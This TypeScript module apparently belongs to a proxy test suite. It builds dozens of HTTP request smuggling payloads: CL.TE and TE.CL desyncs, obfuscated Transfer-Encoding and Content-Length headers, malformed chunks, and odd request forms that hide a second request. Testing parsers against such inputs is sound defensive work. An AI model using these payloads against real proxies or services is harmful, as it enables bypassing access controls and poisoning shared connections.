/** Bytes of an attack that hides a second request from the proxy or from the service. */
export interface Attack {
  readonly name: string;
  /** Returns the bytes. `outer` and `inner` are the paths of the visible and hidden request. */
  readonly bytes: (outer: string, inner: string) => string;
  /**
   * True if the proxy may read the second request as a request of its own, which follows the first
   * one. It is then not hidden: the proxy applies its rules to it.
   */
  readonly isPipelined?: boolean;
}

const crlf = '\r\n';
const lines = (...all: string[]): string => all.join(crlf);
const hidden = (path: string): string => lines(`GET ${path} HTTP/1.1`, 'Host: a.test', '', '');
const withBody = (outer: string, headers: readonly string[], body: string): string =>
  lines(`POST ${outer} HTTP/1.1`, 'Host: a.test', ...headers, '', body);

/** A request whose Content-Length covers a last chunk and the hidden request (CL.TE). */
const lengthAnd = (name: string, ...coding: string[]): Attack => ({
  name,
  bytes: (outer, inner) => {
    const body = `0${crlf}${crlf}${hidden(inner)}`;
    return withBody(outer, [`Content-Length: ${body.length}`, ...coding], body);
  },
});

/** A chunked request whose Content-Length ends inside the first chunk (TE.CL). */
const chunkedAnd = (name: string, ...coding: string[]): Attack => ({
  name,
  bytes: (outer, inner) => {
    const size = hidden(inner).length.toString(16);
    const body = lines(size, hidden(inner), '0', '', '');
    return withBody(outer, [`Content-Length: ${size.length + 2}`, ...coding], body);
  },
});

/** A request with these lengths, whose body is the hidden request. */
const lengths = (name: string, ...values: string[]): Attack => ({
  name,
  bytes: (outer, inner) => {
    const real = String(hidden(inner).length);
    const headers = values.map((value) => value.replace('N', real));
    return withBody(outer, headers, hidden(inner));
  },
});

/** A chunked request with this body, in which HIDDEN stands for the hidden request. */
const chunks = (name: string, body: string): Attack => ({
  name,
  bytes: (outer, inner) => {
    const size = hidden(inner).length.toString(16);
    const text = body.replace('SIZE', size).replace('HIDDEN', hidden(inner));
    return withBody(outer, ['Transfer-Encoding: chunked'], text);
  },
});

const request = (name: string, bytes: Attack['bytes']): Attack => ({ name, bytes });

/** Attacks that disagree about the length of a body. */
export const lengthAttacks: readonly Attack[] = [
  lengthAnd('CL.TE', 'Transfer-Encoding: chunked'),
  chunkedAnd('TE.CL', 'Transfer-Encoding: chunked'),
  lengthAnd('unknown coding', 'Transfer-Encoding: xchunked'),
  lengthAnd('space before the colon', 'Transfer-Encoding : chunked'),
  lengthAnd('tab before the colon', 'Transfer-Encoding\t: chunked'),
  lengthAnd('tab before the value', 'Transfer-Encoding:\tchunked'),
  lengthAnd('vertical tab', 'Transfer-Encoding: \u000bchunked'),
  lengthAnd('NUL after the value', 'Transfer-Encoding: chunked\u0000'),
  lengthAnd('quoted value', 'Transfer-Encoding: "chunked"'),
  lengthAnd('two codings', 'Transfer-Encoding: chunked', 'Transfer-Encoding: identity'),
  lengthAnd('chunked is not last', 'Transfer-Encoding: chunked, identity'),
  lengthAnd('list of codings', 'Transfer-Encoding: identity, chunked'),
  lengthAnd('chunked twice', 'Transfer-Encoding: chunked, chunked'),
  lengthAnd('underscore', 'Transfer_Encoding: chunked'),
  lengthAnd('bare LF before the coding', 'X-A: b\nTransfer-Encoding: chunked'),
  lengthAnd('bare CR before the coding', 'X-A: b\rTransfer-Encoding: chunked'),
  lengthAnd('folded coding', 'Transfer-Encoding:', ' chunked'),
  lengthAnd('folded name', 'Transfer-Encoding', ' : chunked'),
  lengthAnd('coding in a continued header', 'X-A: b', ' Transfer-Encoding: chunked'),
  chunkedAnd('upper-case coding', 'TRANSFER-ENCODING: CHUNKED'),
  lengths('two lengths', 'Content-Length: 0', 'Content-Length: N'),
  lengths('two lengths, the longer first', 'Content-Length: N', 'Content-Length: 0'),
  lengths('list of lengths', 'Content-Length: 0, N'),
  lengths('the same length twice', 'Content-Length: N', 'Content-Length: N'),
  lengths('length with a sign', 'Content-Length: +N'),
  lengths('negative length', 'Content-Length: -N'),
  lengths('hexadecimal length', 'Content-Length: 0xN'),
  lengths('length and letters', 'Content-Length: Nabc'),
  lengths('length with a space', 'Content-Length: 0 N'),
  lengths('empty length', 'Content-Length: ', 'Content-Length: N'),
  lengths('space before the colon of a length', 'Content-Length : 0', 'Content-Length: N'),
  lengths('length of 2^64 + N', 'Content-Length: 1844674407370955161N'),
  lengths('underscore in the length', 'Content_Length: 0', 'Content-Length: N'),
];

/** Attacks with malformed chunks. */
export const chunkAttacks: readonly Attack[] = [
  { ...chunks('extension with a bare LF', `0;a=b\n${crlf}HIDDEN`), isPipelined: true },
  chunks('size with a prefix', `0x0${crlf}${crlf}HIDDEN0${crlf}${crlf}`),
  chunks('size beyond 64 bits', `10000000000000000${crlf}HIDDEN`),
  chunks('negative size', `-1${crlf}HIDDEN`),
  chunks('bare LF after the size', `SIZE\nHIDDEN${crlf}0${crlf}${crlf}`),
  chunks('bare CR after the size', `SIZE\rHIDDEN${crlf}0${crlf}${crlf}`),
  chunks('no line end after the data', `SIZE${crlf}HIDDEN0${crlf}${crlf}`),
  chunks('more data than the size', `1${crlf}HIDDEN${crlf}0${crlf}${crlf}`),
  chunks('hidden in the trailers', `0${crlf}Content-Length: 0${crlf}X: HIDDEN`),
  chunks('whole and correct', `SIZE${crlf}HIDDEN${crlf}0${crlf}${crlf}`),
];

/** Attacks with other malformed or unusual requests. */
export const formAttacks: readonly Attack[] = [
  request('bare LF everywhere', (outer, inner) => {
    const body = hidden(inner).replaceAll(crlf, '\n');
    return withBody(outer, [`Content-Length: ${body.length}`], '').replaceAll(crlf, '\n') + body;
  }),
  request('first header begins with a space', (outer, inner) =>
    lines(`GET ${outer} HTTP/1.1`, ` X: y`, `Host: a.test`, '', '').replace(
      'y',
      `GET ${inner} HTTP/1.1`,
    ),
  ),
  request('HTTP/0.9', (_outer, inner) => `GET ${inner}${crlf}`),
  request('version 1.1 twice', (outer, inner) =>
    lines(`GET ${outer} HTTP/1.1 ${inner} HTTP/1.1`, 'Host: a.test', '', ''),
  ),
  request('lower-case version', (_outer, inner) =>
    lines(`GET ${inner} http/1.1`, 'Host: a.test', '', ''),
  ),
  request('unknown version', (_outer, inner) =>
    lines(`GET ${inner} HTTP/3.7`, 'Host: a.test', '', ''),
  ),
  request('HTTP/1.0 with chunks', (outer, inner) =>
    lines(
      `POST ${outer} HTTP/1.0`,
      'Host: a.test',
      'Connection: keep-alive',
      'Transfer-Encoding: chunked',
      '',
      `0${crlf}${crlf}${hidden(inner)}`,
    ),
  ),
  request('GET with a body', (outer, inner) =>
    lines(
      `GET ${outer} HTTP/1.1`,
      'Host: a.test',
      `Content-Length: ${hidden(inner).length}`,
      '',
      hidden(inner),
    ),
  ),
  request('HTTP/1.0 GET with a body', (outer, inner) =>
    lines(
      `GET ${outer} HTTP/1.0`,
      'Host: a.test',
      'Connection: keep-alive',
      `Content-Length: ${hidden(inner).length}`,
      '',
      hidden(inner),
    ),
  ),
  request('HEAD with a body', (outer, inner) =>
    lines(
      `HEAD ${outer} HTTP/1.1`,
      'Host: a.test',
      `Content-Length: ${hidden(inner).length}`,
      '',
      hidden(inner),
    ),
  ),
  request('Expect: 100-continue', (outer, inner) =>
    withBody(
      outer,
      ['Expect: 100-continue', `Content-Length: ${hidden(inner).length}`],
      hidden(inner),
    ),
  ),
  request('upgrade to HTTP/2', (outer, inner) =>
    withBody(
      outer,
      [
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA',
        `Content-Length: ${hidden(inner).length}`,
      ],
      hidden(inner),
    ),
  ),
  request('upgrade to WebSocket', (outer, inner) =>
    withBody(
      outer,
      [
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
        `Content-Length: ${hidden(inner).length}`,
      ],
      hidden(inner),
    ),
  ),
  request('CONNECT', (_outer, inner) =>
    lines('CONNECT a.test:80 HTTP/1.1', 'Host: a.test:80', '', hidden(inner)),
  ),
  request('two hosts', (_outer, inner) =>
    lines(`GET ${inner} HTTP/1.1`, 'Host: a.test', 'Host: b.test', '', ''),
  ),
  request('another host in the absolute form', (_outer, inner) =>
    lines(`GET http://b.test${inner} HTTP/1.1`, 'Host: a.test', '', ''),
  ),
  request('no host', (_outer, inner) => lines(`GET ${inner} HTTP/1.1`, '', '')),
  request('NUL in a header', (_outer, inner) =>
    lines(`GET ${inner} HTTP/1.1`, 'Host: a.test', 'X: \u0000', '', ''),
  ),
  request('header without a name', (_outer, inner) =>
    lines(`GET ${inner} HTTP/1.1`, 'Host: a.test', ': x', '', ''),
  ),
  request('header without a colon', (_outer, inner) =>
    lines(`GET ${inner} HTTP/1.1`, 'Host: a.test', 'X', '', ''),
  ),
];
